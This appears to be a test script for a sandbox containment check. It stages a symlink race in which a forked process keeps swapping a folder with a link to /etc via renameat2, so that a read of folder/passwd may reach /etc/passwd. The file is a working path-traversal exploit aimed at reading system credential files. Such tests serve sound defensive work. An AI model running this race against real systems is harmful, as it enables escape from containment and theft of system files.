# reads: folder/passwd 4 or nothing
# The same one step up: a folder that is a link to / every other moment.
import ctypes
import os

from attack import contained

os.mkdir("/work/real")
open("/work/real/passwd", "w").write("mine")
os.symlink("/etc", "/work/link")
libc = ctypes.CDLL(None)
os.rename("/work/real", "/work/folder")
if os.fork() == 0:
    while True:
        libc.renameat2(-100, b"/work/link", -100, b"/work/folder", 2)
contained()
